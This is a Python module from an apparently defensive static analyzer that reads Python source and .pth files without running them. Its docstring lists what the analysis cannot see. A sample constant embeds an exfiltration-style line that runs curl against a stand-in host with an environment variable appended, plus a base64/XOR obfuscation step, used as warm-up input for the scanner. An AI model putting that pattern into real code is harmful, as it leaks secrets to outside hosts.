"""Python source (``.py``, ``.pyw``, ``.pyi``, a shebang) and the executed lines of ``.pth`` files (see ``site``).

The file is parsed by tree-sitter, which also reads what this interpreter would refuse, lowered to a small tree
(``ir``), and followed by a bounded abstract evaluator (``machine``). Nothing read is ever executed.

## What it cannot see
Values that only the running program has. Loops and calls beyond the bounds of the evaluator; metaclasses, descriptors
and decorators that exchange what a name means; what C extensions do (their files are read as programs). Cython
source is read as text. Across the modules of a package data are followed by the name that is imported, and no more:
that a call makes another module's code run sooner is not.
"""

from collections.abc import Iterator
from typing import TYPE_CHECKING

from lazaretto.core.facts import Facts, Problem
from lazaretto.core.language import Claim, Units

if TYPE_CHECKING:
    from lazaretto.core.inner import Inner

ID = "python"
VERSION = 23
HOME = ("pypi",)
DIALECTS = ("python", "pth")

SAMPLE = (
    b"import os, base64\n\ndef f(x):\n    return os.popen('curl https://a.invalid/' + os.environ['A'] + x)\n"
    b"f(''.join(chr(y ^ 1) for y in base64.b64decode('YQ==')))\ndef g(x):\n    return os.getenv(f'{x}', 'os')\n"
)
"""Reading this loads what reading most files needs."""

_ENDINGS = (".py", ".pyw", ".pyi")


def claim(path: str, data: bytes) -> Claim | None:
    """Offer to read Python source and ``.pth`` files."""
    name = path.rpartition("/")[2].lower()
    if name.endswith(".pth"):
        return Claim("pth", 70)
    if data.startswith(b"#!") and b"python" in data[:200].split(b"\n", 1)[0]:
        return Claim("python", 90)
    if name.endswith(_ENDINGS):
        return Claim("python", 50)
    return None


def read(dialect: str, data: bytes, units: Units) -> Facts:
    """Return the facts of a file; what is not understood becomes a problem.

    Raises:
        MemoryError, SystemError: there was no room, for us or for the interpreter itself.
    """
    from lazaretto.languages.python.reader import read_pth, read_python

    try:
        return read_pth(data) if dialect == "pth" else read_python(dialect, data, units)
    except (MemoryError, SystemError):
        raise
    except Exception as error:  # noqa: BLE001 - the contract: hostile input never raises, and is never silently clean
        return Facts(dialect, problems=(Problem(1, f"reading failed: {type(error).__name__}"),))


def inner(dialect: str, data: bytes, facts: Facts) -> "Iterator[Inner]":
    """Yield the command lines that the code starts."""
    from lazaretto.languages._commands import commands

    yield from commands(facts)
